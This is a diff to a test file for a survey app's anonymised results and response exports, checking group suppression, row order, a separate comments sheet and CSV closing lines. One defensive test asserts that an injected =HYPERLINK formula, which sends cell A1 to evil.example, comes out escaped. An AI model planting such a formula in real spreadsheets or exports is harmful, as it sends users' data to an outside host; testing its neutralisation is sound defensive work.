@@ -5,6 +5,7 @@ import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { exportHeaderTexts } from '../src/exports/export-model.js';
 import { buildResults } from '../src/results/build-results.js';
+import { demo2012Responses } from '../src/surveys/demo-2012-responses.js';
 import { seedDemoSurvey } from '../src/surveys/demo-data.js';
 import { buildTestApp, createAdmin, login, resetDatabase, type TTestApp } from './helpers.js';
 import { ANSWERS_2012, adminCaller, closeWaveNow, publishedWave, submit } from './survey-helpers.js';
@@ -103,13 +104,13 @@ describe('results exports of the 2012 demo wave', () => {
     expect(q1[3]?.slice(0, 3)).toEqual(['Ja', 72.8, 131]);
   });
 
-  it('XLSX by role: the suppressed group reads the marker, never its count', async () => {
+  it('XLSX by role: the small group reads its marker, never its count, and its complement the other marker', async () => {
     const response = await download('results.xlsx', '?breakdown=q9');
     expect(response.statusCode).toBe(200);
     const book = await workbook(response.rawPayload);
     const q2 = choiceQuestion(byRole, 'q2');
     const groups = q2.breakdown ?? [];
-    const hidden = groups.findIndex((g) => g.suppressed);
+    const hidden = groups.findIndex((g) => g.suppressed && g.reason === 'small_group');
     expect(hidden, 'the demo wave has a suppressed role group').toBeGreaterThanOrEqual(0);
     const group = groups[hidden];
     if (!group) throw new Error('unreachable');
@@ -134,6 +135,10 @@ describe('results exports of the 2012 demo wave', () => {
       expect(row[countColumn]).toBe(MARKER);
     }
     expect(rows[3 + table.rows.length]?.[countColumn]).toBe(MARKER);
+    const complement = groups.find((g) => g.suppressed && g.reason === 'protects_small_group');
+    expect(complement, 'the demo wave hides one more role to protect the small one').toBeDefined();
+    const complementColumn = header.indexOf(`${complement?.label}: antal`);
+    expect(rows[3]?.[complementColumn]).toBe(exportHeaderTexts('sv', 5).protectedMarker);
     for (const row of rows) {
       for (const column of [percentColumn, countColumn]) expect(typeof row[column]).not.toBe('number');
     }
@@ -202,11 +207,9 @@ describe('raw responses export', () => {
     return { columns: all[6] ?? [], rows: all.slice(7) };
   }
 
-  it('has one row per response, no timestamps, and a new random order each time', async () => {
+  it('has one row per response, no timestamps, in an order unrelated to when anyone answered', async () => {
     const first = await responseRows();
-    const second = await responseRows();
     expect(first.rows).toHaveLength(185);
-    expect(second.rows).toHaveLength(185);
     expect(first.columns[0]).toMatch(/^q1 /);
     expect(first.columns[1]).toBe('q1 kod');
     for (const row of first.rows) {
@@ -215,28 +218,48 @@ describe('raw responses export', () => {
         expect(String(cell ?? '')).not.toMatch(/\d{4}-\d{2}-\d{2}|\d{1,2}:\d{2}|[0-9a-f]{8}-[0-9a-f]{4}-/i);
       }
     }
-    expect(JSON.stringify(first.rows.slice(0, 10))).not.toBe(JSON.stringify(second.rows.slice(0, 10)));
-    // Same rows in a different order: the labels of Q1 count as in the results.
-    const q1 = first.rows.map((row) => row[0]);
-    expect(q1.filter((v) => v === 'Ja')).toHaveLength(131);
-    expect(first.rows.map((row) => row[1]).filter((v) => v === 'ja')).toHaveLength(131);
+    // The demo answered in a known order (demo-2012-responses.ts); the file's order is the random ids'.
+    const submitted = demo2012Responses().map((a) => String(a.q1 ?? ''));
+    expect(first.rows.map((row) => String(row[1] ?? ''))).not.toEqual(submitted);
+    // Same rows: the labels of Q1 count as in the results.
+    const ja = choiceQuestion(results, 'q1').table?.rows.find((r) => r.optionId === 'ja')?.count;
+    expect(first.rows.filter((row) => row[0] === 'Ja')).toHaveLength(ja ?? -1);
   });
 
-  it('writes background answers fewer than the minimum group gave as the marker, never the answer', async () => {
+  it('blanks the background answers the tables hide, as if skipped: no marker gives them away', async () => {
     const { columns, rows } = await responseRows();
     const role = columns.findIndex((c) => String(c).startsWith('q9 '));
     const roles = rows.map((row) => row[role]);
     expect(roles).not.toContain('Annan');
     expect(rows.map((row) => row[role + 1])).not.toContain('annan');
-    expect(roles.filter((v) => v === 'färre än 5 svar')).toHaveLength(3);
-    expect(roles.filter((v) => v === 'Socialsekreterare').length).toBeGreaterThan(100);
+    for (const row of rows) for (const cell of row) expect(String(cell ?? '')).not.toContain(MARKER);
+    const shown = choiceQuestion(results, 'q9').table?.rows.filter((r) => r.hidden === null) ?? [];
+    expect(shown.length).toBeGreaterThan(0);
+    for (const row of shown) expect(roles.filter((v) => v === row.label).length).toBeGreaterThan(0);
   });
 
-  it('CSV: header lines, then columns and 185 records', async () => {
+  it('puts the comments apart, one per row with only their question', async () => {
+    const response = await download('responses.xlsx');
+    const book = await workbook(response.rawPayload);
+    const answers = sheetRows(book.getWorksheet('Svar') as ExcelJS.Worksheet);
+    expect((answers[6] ?? []).some((c) => /^q(7|8|12) /.test(String(c)))).toBe(false);
+    const comments = sheetRows(book.getWorksheet('Kommentarer') as ExcelJS.Worksheet);
+    expect(comments[6]).toEqual(['Fråga', 'Kommentar']);
+    const writers = results.questions.flatMap((q) => (q.type === 'free_text' && q.commentsShown ? [q.writers] : []));
+    expect(comments.slice(7)).toHaveLength(writers.reduce((a, b) => a + b, 0));
+    const csv = await download('comments.csv');
+    expect(csv.statusCode).toBe(200);
+    expect(csv.body).toContain('Fråga,Kommentar');
+  });
+
+  it('CSV: header lines, then columns and 185 records, then a closing line a cut file lacks', async () => {
     const response = await download('responses.csv');
     expect(response.statusCode).toBe(200);
     expect(response.body.startsWith('Socialtjänstenkäten 2012\r\n')).toBe(true);
     expect(response.body).toContain('q1 kod');
+    expect(response.body.endsWith(`\r\nSlut på filen: ${results.responses} rader.\r\n`)).toBe(true);
+    const tables = await download('results.csv');
+    expect(tables.body.trimEnd().split('\r\n').at(-1)).toMatch(/^Slut på filen: \d+ tabeller\.$/);
   });
 
   it('refuses a wave under the minimum group (409) and a wave whose results are not released', async () => {
@@ -268,19 +291,18 @@ describe('raw responses export', () => {
     await closeWaveNow(t.app, owner, wave.id);
     const response = await download('responses.xlsx', '', analyst, wave.id);
     expect(response.statusCode).toBe(200);
-    const sheet = (await workbook(response.rawPayload)).getWorksheet('Svar');
-    if (!sheet) throw new Error('no Svar sheet');
+    const sheet = (await workbook(response.rawPayload)).getWorksheet('Kommentarer');
+    if (!sheet) throw new Error('no Kommentarer sheet');
     const all = sheetRows(sheet);
-    const columns = all[6] ?? [];
-    const q7 = columns.findIndex((c) => String(c).startsWith('q7 '));
-    expect(q7).toBeGreaterThan(0);
-    expect(columns.some((c) => String(c).startsWith('q8 '))).toBe(false);
-    const texts = all.slice(7).map((row) => row[q7]);
+    const questions = all.slice(7).map((row) => String(row[0]));
+    expect(questions.length).toBeGreaterThan(0);
+    expect(questions.every((q) => q.startsWith('q7 '))).toBe(true);
+    const texts = all.slice(7).map((row) => row[1]);
     expect(texts).toContain(`'${HOSTILE}`);
     expect(texts).not.toContain(HOSTILE);
     for (const row of all) for (const cell of row) expect(String(cell ?? '')).not.toMatch(/^[=+\-@\t\r]/);
 
-    const csv = await download('responses.csv', '', analyst, wave.id);
+    const csv = await download('comments.csv', '', analyst, wave.id);
     expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klicka här"")"`);
   });
 });
